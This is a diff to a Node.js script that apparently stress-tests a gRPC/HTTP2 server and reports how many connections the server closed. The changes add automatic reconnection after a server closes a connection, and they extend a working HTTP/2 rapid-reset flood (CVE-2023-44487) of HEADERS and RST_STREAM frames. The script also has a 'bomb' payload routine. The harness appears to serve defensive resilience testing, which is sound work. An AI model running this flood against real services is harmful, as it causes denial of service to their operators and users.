@@ -4,7 +4,8 @@
 // Prints one line of JSON: what was sent, and what became of the connections.
 import zlib from 'node:zlib';
 import { CONTINUATION, Connection, DATA, END_HEADERS, END_STREAM, HEADERS, PING,
-  RST_STREAM, SETTINGS, callHeaders, frame, integer, messageHead }
+  RST_STREAM, SETTINGS, callHeaders, frame, integer, indexedHeaders,
+  messageHead }
   from './grpc_frames.mjs';
 
 const [kind, port, text] = process.argv.slice(2);
@@ -27,12 +28,23 @@ function bomb(mebibytes) {
 }
 
 // Opens `count` connections and uses each; returns how many the server closed.
+// With the option `again`, opens another one for each that it closed.
 async function each(count, use) {
-  const all = await Promise.all(Array.from({ length: count }, () => open()));
-  const sent = await Promise.all(all.map((one, i) => use(one, i)));
-  const closed = all.filter((one) => one.closed).length;
-  for (const one of all) one.end();
-  return { sent: sent.reduce((sum, n) => sum + n, 0), closed, connections: count };
+  const ends = await Promise.all(Array.from({ length: count }, async (_, i) => {
+    let sent = 0;
+    let opened = 0;
+    let closed = 0;
+    do {
+      const one = await open();
+      ++opened;
+      sent += await use(one, i);
+      if (one.closed) ++closed;
+      one.end();
+    } while (options.again && Date.now() < until);
+    return { sent, closed, opened };
+  }));
+  const sum = (what) => ends.reduce((all, one) => all + one[what], 0);
+  return { sent: sum('sent'), closed: sum('closed'), connections: sum('opened') };
 }
 
 // Sends `bytes` until the time is over, the server closes, or `times` is reached.
@@ -101,15 +113,17 @@ const kinds = {
     });
   },
   // Calls that are reset at once (CVE-2023-44487).
-  reset({ connections = 1, times = 100_000 }) {
+  reset({ connections = 1, times = 100_000, method = submit }) {
+    const { first, next } = indexedHeaders(method, key);
     return each(connections, async (one) => {
-      const headers = callHeaders(submit, key);
+      let headers = first;
       let n = 0;
       while (n < times && Date.now() < until) {
         const some = [];
         for (let i = 0; i < 100; ++i, ++n) {
           some.push(frame(HEADERS, END_HEADERS, 2 * n + 1, headers),
               frame(RST_STREAM, 0, 2 * n + 1, Buffer.from([0, 0, 0, 8])));
+          headers = next;
         }
         if (!await one.send(Buffer.concat(some))) break;
         await sleep(0);
